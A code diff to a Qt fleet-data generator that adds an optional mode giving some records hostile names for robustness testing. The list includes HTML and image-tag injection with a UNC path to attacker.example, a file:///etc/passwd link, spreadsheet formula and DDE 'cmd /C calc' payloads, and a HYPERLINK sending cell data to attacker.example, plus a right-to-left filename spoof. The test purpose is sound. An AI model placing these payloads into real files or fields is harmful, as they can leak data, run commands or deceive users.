@@ -130,7 +130,7 @@ const QStringList lastNames{QStringLiteral("Shah"),     QStringLiteral("Kumar"),
 
 FleetGenerator::FleetGenerator(FleetState &fleet) : m_fleet(fleet), m_rng(fleet.seed()) {}
 
-void FleetGenerator::generate(FleetState &fleet, int computers, int patches)
+void FleetGenerator::generate(FleetState &fleet, int computers, int patches, bool hostileNames)
 {
     FleetGenerator g(fleet);
     g.makeCatalogues();
@@ -141,7 +141,52 @@ void FleetGenerator::generate(FleetState &fleet, int computers, int patches)
     g.makePatches(std::max(0, patches));
     g.makeConfigurations();
     g.makeApdTasks();
+    if (hostileNames)
+        g.giveHostileNames();
     fleet.finishGeneration();
+}
+
+QStringList FleetGenerator::hostileNames()
+{
+    return {
+        QStringLiteral("<b>x</b>bold"),
+        QStringLiteral("<img src=/dev/zero>zero"),
+        QStringLiteral("<img src=\"\\\\attacker.example\\share\\x.png\">unc"),
+        QStringLiteral("<a href=\"file:///etc/passwd\">link</a>"),
+        QStringLiteral("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"),
+        QStringLiteral("+cmd|' /C calc'!A0"),
+        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
+        QStringLiteral("<long>") + QString(9994, QLatin1Char('W')),
+        QStringLiteral("\u202Eexe.tnemucod\u202C-rtl"),
+        QStringLiteral("\u0645\u062E\u062F\u0645-\u0627\u0644\u0645\u062D\u0627\u0633\u0628\u0629 &amp; <i>"),
+        QStringLiteral("tab\tand\rcr\nnewline"),
+    };
+}
+
+// Renames a spread of things after generation (ids and relations unchanged): every seventh computer,
+// every fifth patch's description and every ninth vendor, one office, group, policy, configuration and
+// APD task. Names stay unique where the server looks things up by name.
+void FleetGenerator::giveHostileNames()
+{
+    const QStringList names = hostileNames();
+    const auto pick = [&names](int i) { return names.at(i % names.size()); };
+    for (int c = 3, n = 0; c < m_fleet.m_computers.size(); c += 7, ++n)
+        m_fleet.m_computers[c].name = pick(n) + QStringLiteral("-%1").arg(c);
+    for (int p = 2, n = 0; p < m_fleet.m_patches.size(); p += 5, ++n) {
+        m_fleet.m_patches[p].description = pick(n);
+        if (n % 2 == 0)
+            m_fleet.m_patches[p].vendor = pick(n + 1);
+    }
+    if (m_fleet.m_offices.size() > 1)
+        m_fleet.m_offices[1].name = pick(0) + QStringLiteral(" office");
+    if (m_fleet.m_groups.size() > 1)
+        m_fleet.m_groups[1].name = pick(1) + QStringLiteral(" group");
+    if (m_fleet.m_policies.size() > 1)
+        m_fleet.m_policies[1].name = pick(4) + QStringLiteral(" policy");
+    if (!m_fleet.m_configs.isEmpty())
+        m_fleet.m_configs[0].name = pick(0) + QStringLiteral(" configuration");
+    if (!m_fleet.m_apdTasks.isEmpty())
+        m_fleet.m_apdTasks[0].name = pick(3) + QStringLiteral(" task");
 }
 
 void FleetGenerator::makeCatalogues()
